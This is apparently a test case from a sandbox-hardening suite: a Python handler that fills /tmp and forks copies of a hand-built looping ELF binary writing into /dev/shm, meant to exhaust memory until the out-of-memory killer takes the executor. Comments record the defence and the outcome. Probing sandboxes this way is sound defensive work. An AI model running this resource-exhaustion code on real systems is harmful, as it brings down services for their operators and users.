# Tries: to use up the sandbox's memory with what is no process's, files in
# memory, by a program of a few bytes: so the executor is the largest process
# that the kernel can kill.
# Stopped by: what code has started says that it is to be killed first; /dev/shm
# is emptied afterwards.
# Seen to get through with: the same score for all: the executor was killed. So
# it was while it had the child's score until execve(), and while it started
# one interpreter after the other.
# Says: nothing: it is killed.

# mov eax, 1; mov edi, eax; mov esi, 0x400000; mov edx, 4096; syscall; jmp 0
ENDLESS = bytes.fromhex("b801000000 89c7 be00004000 ba00100000 0f05 ebeb")


def program():
    size = 64 + 56 + len(ENDLESS)

    return struct.pack("<16sHHIQQQIHHHHHH", b"\x7fELF\2\1\1", 2, 62, 1,
                       0x400000 + 120, 64, 0, 0, 64, 56, 1, 0, 0, 0) \
        + struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, size, size,
                      4096) + ENDLESS


def handler(event):
    if platform.machine() != "x86_64":
        return "stopped: it is no program for this machine"

    write("/workspace/endless", program())
    os.chmod("/workspace/endless", 0o755)
    file = open("/tmp/full", "wb", 0)

    try:
        while True:
            file.write(b"\0" * (1 << 20))
    except OSError:
        pass

    for number in range(4):
        if os.fork() == 0:
            break

    os.dup2(os.open("/dev/shm/full-%d" % os.getpid(),
                    os.O_WRONLY | os.O_CREAT), 1)
    os.execv("/workspace/endless", ["endless"])
